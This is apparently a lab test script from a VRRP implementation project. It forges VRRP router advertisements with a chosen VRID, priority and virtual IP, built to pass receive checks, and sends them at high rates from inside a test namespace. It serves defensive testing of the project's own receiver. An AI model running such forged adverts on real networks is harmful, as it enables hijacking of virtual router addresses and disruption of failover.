/**
 * A hostile host on the segment: sends forged VRRP adverts for a VRID, at a given rate, from
 * this namespace's own address (TTL 255, valid checksum: they pass every receive check).
 * Run inside a lab namespace; prints one JSON line when done:
 *   { sent, errors, firstMs, lastMs }   (times: ms since the epoch)
 *
 *   node scripts/lab/forge-adverts.ts --vrid 51 --priority 50 --vip 10.99.0.100 \
 *     [--version 3] [--interval-cs 100] [--count 1000] [--rate 20000] [--ifname eth0]
 */
import { parseArgs } from 'node:util';
import { AdvertSocket } from '../../packages/linux/dist/index.js';
import { emitAdvert } from '../../packages/vrrp/dist/index.js';

const { values } = parseArgs({
  options: {
    ifname: { type: 'string', default: 'eth0' },
    vrid: { type: 'string' },
    priority: { type: 'string' },
    vip: { type: 'string' },
    version: { type: 'string', default: '3' },
    'interval-cs': { type: 'string', default: '100' },
    count: { type: 'string', default: '1000' },
    rate: { type: 'string', default: '20000' },
  },
});

function int(name: string, text: string | undefined, min: number, max: number): number {
  const n = Number(text);
  if (text === undefined || !Number.isInteger(n) || n < min || n > max) throw new Error(`--${name} must be an integer in ${min}..${max}, got ${text}`);
  return n;
}

const version = int('version', values.version, 2, 3) as 2 | 3;
const count = int('count', values.count, 1, 100_000_000);
const rate = int('rate', values.rate, 1, 10_000_000);
if (values.vip === undefined) throw new Error('--vip is required');
const socket = await AdvertSocket.open({ ifname: values.ifname, family: 4 });
const payload = emitAdvert(
  {
    version,
    type: 1,
    vrid: int('vrid', values.vrid, 1, 255),
    priority: int('priority', values.priority, 0, 255),
    advertIntervalCs: int('interval-cs', values['interval-cs'], 1, 4095),
    addresses: [values.vip],
    authType: 0,
    authData: new Uint8Array(version === 2 ? 8 : 0),
  },
  { family: 4, src: socket.source, dst: socket.multicastGroup },
);

// Paced on a millisecond tick: as many as the rate allows by now, then yield.
let sent = 0;
let errors = 0;
const start = performance.now();
const firstMs = Date.now();
while (sent + errors < count) {
  const due = Math.min(count, Math.floor(((performance.now() - start) * rate) / 1000) + 1);
  while (sent + errors < due) {
    if (socket.send(payload).ok) sent++;
    else errors++;
  }
  if (sent + errors < count) await new Promise((resolve) => setTimeout(resolve, 1));
}
const lastMs = Date.now();
socket.close();
process.stdout.write(`${JSON.stringify({ sent, errors, firstMs, lastMs })}\n`);
